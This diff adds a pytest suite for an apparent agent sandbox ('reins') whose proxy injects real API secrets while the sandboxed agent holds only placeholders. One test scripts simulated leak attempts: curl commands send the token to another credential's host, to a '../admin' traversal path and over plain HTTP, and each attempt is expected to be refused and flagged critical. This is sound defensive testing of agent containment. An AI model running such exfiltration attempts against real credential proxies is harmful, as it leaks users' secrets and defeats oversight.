@@ -1,0 +1,357 @@
+"""Credential injection (policy `credentials:`), end to end: the agent holds
+only a placeholder; the proxy terminates TLS for the credential's hosts and
+puts the real secret into the request. Real clients (curl, Python's urllib,
+Node's https, git) inside the sandbox against a local TLS server with its own
+test CA (trusted by reins through SSL_CERT_FILE in its own environment; the
+names pinned with network.hosts). A placeholder sent anywhere else is refused
+and is a critical finding; neither a secret nor a placeholder reaches the
+trail. Runs as root and as nobody (the `caller` fixture)."""
+import http.server
+import json
+import os
+import re
+import shutil
+import socketserver
+import ssl
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE / "proxy_helpers"))
+import servers  # noqa: E402
+
+SECRET = "sk-reins-test-SECRET-7f3a9c"
+FILE_SECRET = "file-secret-Q2W3E4"
+PLACEHOLDER = re.compile(r"reins-cred-[A-Za-z0-9_-]+-[0-9a-f]{32}")
+
+
+class _Handler(http.server.SimpleHTTPRequestHandler):
+    """/echo: the request as JSON; /v1/stream: server-sent events, one at a
+    time; anything else: files (a dumb git repository), but only with the
+    right bearer token under /repo.git."""
+    protocol_version = "HTTP/1.1"
+    seen = []  # (host, path, headers) of every request
+
+    def log_message(self, *args):
+        pass
+
+    def _record(self, body=b""):
+        _Handler.seen.append((self.headers.get("Host"), self.path,
+                              [[k, v] for k, v in self.headers.items()], body))
+
+    def _json(self, obj, status=200):
+        # what the server saw, the secrets replaced by markers: a real API
+        # does not hand its key back, and the agent's output must not hold it
+        out = json.dumps(obj).replace(SECRET, "<SECRET>").replace(FILE_SECRET, "<FILE_SECRET>")
+        out = out.encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+
+    def do_GET(self):
+        self._record()
+        if "/echo" in self.path:
+            return self._json({"path": self.path,
+                               "headers": [[k, v] for k, v in self.headers.items()]})
+        if self.path.startswith("/v1/stream"):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/event-stream")
+            self.send_header("Transfer-Encoding", "chunked")
+            self.end_headers()
+            for i in range(3):
+                data = f"data: event {i}\n\n".encode()
+                self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
+                self.wfile.flush()
+                time.sleep(0.1)
+            self.wfile.write(b"0\r\n\r\n")
+            return None
+        if self.path.startswith("/repo.git"):
+            if self.headers.get("Authorization") != f"Bearer {SECRET}":
+                return self._json({"error": "unauthorized"}, 401)
+        return super().do_GET()
+
+    def do_POST(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n) if n else b""
+        self._record(body)
+        return self._json({"path": self.path, "body": body.decode("latin-1"),
+                           "headers": [[k, v] for k, v in self.headers.items()]})
+
+
+class _Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+
+
+def _start(root, tls=None):
+    server = _Server(("127.0.0.1", 0), lambda *a, **kw: _Handler(*a, directory=str(root), **kw))
+    if tls:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain(*tls)
+        server.socket = ctx.wrap_socket(server.socket, server_side=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+class Srv:
+    pass
+
+
+@pytest.fixture(scope="module")
+def srv():
+    root = tempfile.mkdtemp(prefix="reins-cred-srv-", dir="/tmp")
+    os.chmod(root, 0o755)
+    s = Srv()
+    s.root = Path(root)
+    servers.git_repo(root)
+    s.cert, s.key = servers.make_cert(root, ["api.test", "other.test"])
+    s.https = _start(root, (s.cert, s.key))
+    s.http = _start(root)
+    s.port = s.https.server_address[1]
+    s.http_port = s.http.server_address[1]
+    yield s
+    for server in (s.https, s.http):
+        server.shutdown()
+        server.server_close()
+    shutil.rmtree(root, ignore_errors=True)
+
+
+def policy(s, secret_file):
+    p = s.port
+    allow = [f"api.test:{p}", f"other.test:{p}", f"wrong.test:{p}", f"plain.test:{s.http_port}"]
+    return "\n".join([
+        "version: 1",
+        "extends: default",
+        "network:",
+        "  mode: proxy",
+        f"  allow: {json.dumps(allow)}",
+        "  hosts: " + json.dumps({n: "127.0.0.1" for n in
+                                  ("api.test", "other.test", "wrong.test", "plain.test")}),
+        "credentials:",
+        "  - name: api",
+        "    source: {env: API_SECRET}",
+        f"    hosts: [\"api.test:{p}/v1/\", \"api.test:{p}/repo.git\", \"api.test:{p}/echo\"]",
+        "    how: bearer",
+        "    env: API_TOKEN",
+        "  - name: other",
+        f"    source: {{file: {secret_file}}}",
+        f"    hosts: [\"other.test:{p}\"]",
+        "    how: header x-api-key",
+        "    env: OTHER_KEY",
+        "  - name: wrong",
+        "    source: {env: API_SECRET}",
+        f"    hosts: [\"wrong.test:{p}\"]",
+        "    env: WRONG_KEY",
+        # a critical finding freezes the sandbox (T3): recorded only here,
+        # so that every probe runs
+        "rules: {action: {credential-misuse: log}}",
+    ]) + "\n"
+
+
+class Run:
+    def __init__(self, result, trail):
+        self.r = result
+        self.stdout = result.stdout
+        self.trail_text = trail.read_text() if trail.exists() else ""
+        self.events = [json.loads(line) for line in self.trail_text.splitlines() if line]
+
+    def of(self, kind):
+        return [e for e in self.events if e.get("type") == kind]
+
+    def out(self, name):
+        for line in self.stdout.splitlines():
+            if line.startswith(name + " "):
+                return line[len(name) + 1:]
+        raise AssertionError(f"no {name} line in {self.stdout!r} / {self.r.stderr!r}")
+
+
+def run_with_credentials(caller, s, script, *, files=(), trust=True):
+    ws = caller.workspace()
+    for name, text in files:
+        caller.write(ws / name, text)
+    d = caller.mkdtemp(prefix="reins-cred-")
+    secret_file = caller.write(d / "other.key", FILE_SECRET + "\n", 0o600)
+    pol = caller.write(ws / "policy.yaml", policy(s, secret_file))
+    trail = d / "trail.jsonl"
+    env = {"API_SECRET": SECRET}
+    if trust:
+        env["SSL_CERT_FILE"] = s.cert  # reins trusts the test CA for the upstream
+    r = caller.run(["run", "-p", pol, "--audit", trail, "-w", ws, "--", "sh", "-c", script],
+                   cwd=ws, env=env, timeout=120)
+    return Run(r, trail)
+
+
+def assert_no_secret_or_placeholder(run):
+    for text, what in ((run.trail_text, "trail"), (run.stdout, "stdout")):
+        assert SECRET not in text, f"the secret is in the {what}"
+        assert FILE_SECRET not in text, f"the file secret is in the {what}"
+    assert not PLACEHOLDER.search(run.trail_text), "a placeholder is in the trail"
+
+
+PY_CLIENT = """\
+import json, os, urllib.request
+req = urllib.request.Request("https://api.test:%d/v1/echo?via=python",
+                             headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
+body = json.load(urllib.request.urlopen(req, timeout=20))
+print("python", dict(body["headers"]).get("Authorization"))
+"""
+
+# Node 20's fetch does not follow HTTPS_PROXY: a CONNECT through the proxy,
+# then Node's own TLS (trusting NODE_EXTRA_CA_CERTS) and https.request
+NODE_CLIENT = """\
+const http = require('http'), https = require('https'), tls = require('tls');
+const proxy = new URL(process.env.HTTPS_PROXY);
+const target = 'api.test:%d';
+http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: target})
+  .on('connect', (res, socket) => {
+    const s = tls.connect({socket, servername: 'api.test'});
+    https.get({host: 'api.test', port: %d, path: '/v1/echo?via=node', createConnection: () => s,
+               headers: {'x-api-key': 'none', authorization: 'Bearer ' + process.env.API_TOKEN}},
+      r => { let b = ''; r.on('data', d => b += d); r.on('end', () => {
+        const h = Object.fromEntries(JSON.parse(b).headers);
+        console.log('node', r.statusCode, h.Authorization);
+        s.destroy(); }); });
+  }).on('error', e => console.log('node error', e.message)).end();
+"""
+
+
+def test_clients_reach_the_api_with_the_secret_they_never_hold(caller, srv):
+    _Handler.seen.clear()
+    p = srv.port
+    script = f"""
+echo "token $API_TOKEN"
+echo "other $OTHER_KEY"
+echo "bundle $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $GIT_SSL_CAINFO"
+echo "curl $(curl -sS --max-time 20 https://api.test:{p}/v1/echo -H "Authorization: Bearer stolen-by-agent")"
+echo "header $(curl -sS --max-time 20 https://other.test:{p}/echo -H "x-api-key: $OTHER_KEY")"
+echo "sse $(curl -sS -N --max-time 20 https://api.test:{p}/v1/stream | tr '\\n' ' ')"
+python3 py_client.py 2>&1
+if command -v node >/dev/null; then node node_client.js 2>&1; else echo "node absent"; fi
+git clone -q https://api.test:{p}/repo.git clone 2>&1 && echo "git $(cat clone/README)"
+"""
+    r = run_with_credentials(caller, srv, script, files=[
+        ("py_client.py", PY_CLIENT % p), ("node_client.js", NODE_CLIENT % (p, p))])
+    assert r.r.returncode == 0, r.r.stderr
+    # inside: only placeholders, and the session CA bundle announced to every client
+    assert PLACEHOLDER.fullmatch(r.out("token")), r.stdout
+    assert r.out("token").startswith("reins-cred-api-")
+    assert PLACEHOLDER.fullmatch(r.out("other"))
+    assert r.out("bundle").split() == ["/.reins/ca-bundle.pem"] * 5
+    # curl: the agent's own Authorization never left; the secret did
+    assert r.out("curl").startswith("{"), (r.stdout, r.r.stderr)
+    seen = json.loads(r.out("curl"))
+    auth = [v for k, v in seen["headers"] if k.lower() == "authorization"]
+    assert auth == ["Bearer <SECRET>"], seen
+    seen = json.loads(r.out("header"))
+    assert [v for k, v in seen["headers"] if k.lower() == "x-api-key"] == ["<FILE_SECRET>"]
+    # a streamed response passes event by event
+    assert r.out("sse").split("data: ") [1:] == ["event 0  ", "event 1  ", "event 2  "], r.stdout
+    assert "git cloned through the reins proxy" in r.stdout, r.stdout
+    assert r.out("python") == "Bearer <SECRET>", r.stdout
+    if "node absent" not in r.stdout:
+        assert r.out("node") == "200 Bearer <SECRET>", r.stdout
+    # and on the host side, the server had the real value
+    by_path = {path: dict(h) for host, path, h, body in _Handler.seen}
+    assert by_path["/v1/echo?via=python"]["Authorization"] == f"Bearer {SECRET}"
+    if "node absent" not in r.stdout:
+        assert by_path["/v1/echo?via=node"]["Authorization"] == f"Bearer {SECRET}"
+        assert by_path["/v1/echo?via=node"]["x-api-key"] == "none"  # not the other's host
+    # the trail says which credential went where, never its value
+    injected = r.of("net.inject")
+    assert {(e["credential"], e["host"], e["path"]) for e in injected} >= {
+        ("api", "api.test", "/v1/echo"), ("other", "other.test", "/echo"),
+        ("api", "api.test", "/repo.git/info/refs")}, injected
+    assert all(e["method"] == "GET" for e in injected)
+    assert not r.of("net.credential_misuse")
+    assert_no_secret_or_placeholder(r)
+
+
+def test_a_placeholder_sent_elsewhere_is_refused_and_critical(caller, srv):
+    """Escape-style: the agent tries to carry its placeholder to a host (or
+    path) the credential is not for: a terminated host of another
+    credential, a path outside the prefix, plain HTTP. Each is refused before
+    it leaves, a net.credential_misuse event, a critical finding."""
+    _Handler.seen.clear()
+    p = srv.port
+    script = f"""
+echo "other $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' https://other.test:{p}/echo -H "x-leak: $API_TOKEN")"
+echo "prefix $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' https://api.test:{p}/admin -H "x-leak: $API_TOKEN")"
+echo "dots $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' --path-as-is "https://api.test:{p}/v1/../admin?k=$API_TOKEN")"
+echo "plain $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' http://plain.test:{srv.http_port}/echo -H "x-leak: $API_TOKEN")"
+echo "body $(curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' http://plain.test:{srv.http_port}/echo --data "k=$OTHER_KEY")"
+"""
+    r = run_with_credentials(caller, srv, script)
+    assert r.r.returncode == 0, r.r.stderr
+    assert r.out("other") == "403", r.stdout
+    assert r.out("prefix") == "403", r.stdout
+    assert r.out("dots") == "403", r.stdout
+    assert r.out("plain") == "403", r.stdout
+    assert r.out("body") in ("000", "403"), r.stdout  # refused before a byte of it left
+    # no request that carried a placeholder reached a server
+    for host, path, headers, body in _Handler.seen:
+        assert not PLACEHOLDER.search(json.dumps(headers) + path + body.decode("latin-1"))
+    misuse = r.of("net.credential_misuse")
+    hosts = sorted((e["credential"], e["host"]) for e in misuse)
+    assert hosts == [("api", "api.test"), ("api", "api.test"), ("api", "other.test"),
+                     ("api", "plain.test"), ("other", "plain.test")], misuse
+    findings = [e for e in r.events if e.get("type") == "risk.finding"
+                and e.get("rule") == "credential-misuse"]
+    assert findings and all(f["severity"] == "critical" for f in findings), \
+        [e for e in r.events if e.get("type", "").startswith("risk")]
+    assert_no_secret_or_placeholder(r)
+
+
+def test_an_upstream_certificate_for_another_name_is_refused(caller, srv):
+    """wrong.test is pinned to the test server, whose certificate (trusted)
+    does not name it: the proxy refuses to send the secret there."""
+    _Handler.seen.clear()
+    p = srv.port
+    script = f"""
+echo "wrong $(curl -sS --max-time 20 https://wrong.test:{p}/echo -H "x: $WRONG_KEY" -w '\ncode %{{http_code}}')"
+"""
+    r = run_with_credentials(caller, srv, script)
+    assert r.r.returncode == 0, r.r.stderr
+    assert r.out("code") == "502", r.stdout
+    assert "the certificate of wrong.test" in r.stdout and "hostname mismatch" in r.stdout, r.stdout
+    assert not [x for x in _Handler.seen if x[0] and x[0].startswith("wrong.test")]
+    assert_no_secret_or_placeholder(r)
+
+
+def test_upstream_verification_failure_is_a_502(caller, srv):
+    """reins without the test CA in its trust store: the real host's
+    certificate cannot be verified, so nothing is sent."""
+    _Handler.seen.clear()
+    p = srv.port
+    script = f"""
+echo "verify $(curl -sS --max-time 20 https://api.test:{p}/v1/echo -H "Authorization: Bearer $API_TOKEN" -w '\ncode %{{http_code}}')"
+"""
+    r = run_with_credentials(caller, srv, script, trust=False)
+    assert r.r.returncode == 0, r.r.stderr
+    assert r.out("code") == "502", r.stdout
+    assert "the certificate of api.test" in r.stdout and "not trusted" in r.stdout, r.stdout
+    assert not [s for s in _Handler.seen if s[1].startswith("/v1/echo")]
+    upstream = [e for e in r.of("net.upstream") if e.get("error") == "tls-verify"]
+    assert upstream and upstream[0]["host"] == "api.test", r.of("net.upstream")
+    assert_no_secret_or_placeholder(r)
+
+
+def test_credentials_need_the_proxy_and_their_source(caller, srv, tmp_path):
+    ws = caller.workspace()
+    pol = caller.write(ws / "p.yaml", "version: 1\nextends: default\ncredentials:\n"
+                       "  - name: a\n    source: {env: NOPE_UNSET}\n    hosts: [x.test]\n"
+                       "    env: A\n")
+    r = caller.run(["run", "-p", pol, "-w", ws, "--", "true"], cwd=ws)
+    assert r.returncode == 125
+    assert "NOPE_UNSET is not set" in r.stderr, r.stderr
+    r = caller.run(["run", "-p", pol, "-w", ws, "--", "true"], cwd=ws,
+                   env={"NOPE_UNSET": "v"})
+    assert r.returncode == 125
+    assert "credentials need network.mode: proxy" in r.stderr, r.stderr
